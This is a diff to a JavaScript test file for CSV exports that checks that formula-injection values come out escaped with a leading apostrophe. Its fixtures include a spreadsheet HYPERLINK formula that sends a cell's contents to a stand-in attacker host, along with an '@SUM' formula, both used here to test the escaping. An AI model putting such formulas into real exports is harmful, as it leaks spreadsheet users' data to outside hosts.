@@ -45,7 +45,7 @@ describe('CSV exports', () => {
     const series = toCsv(summary).split('\n');
     expect(series.some((l) => l.startsWith(`"'=HYPERLINK(`))).toBe(true);
     expect(series.some((l) => l.startsWith(`'@SUM(1),`))).toBe(true);
-    expect(series).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click for details"")",0,${summary.months[0]},cla,-12.5,${[...['p5', 'p25', 'p50', 'p75', 'p95'].map((k) => summary.arms[0]!.series.cla[k as 'p5'][0])].join(',')},`);
+    expect(series).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click for details"")",0,${summary.months[0]},cla,-12.5,${[...['p5', 'p25', 'p50', 'p75', 'p95'].map((k) => summary.arms[0]!.series.cla[k as 'p5'][0])].join(',')},,trial evidence`);
     const totals = runTotalsCsv(summary).split('\n');
     expect(totals.some((l) => l.startsWith(`"'=HYPERLINK(`))).toBe(true);
     expect(totals.some((l) => l.startsWith(`'@SUM(1),`))).toBe(true);
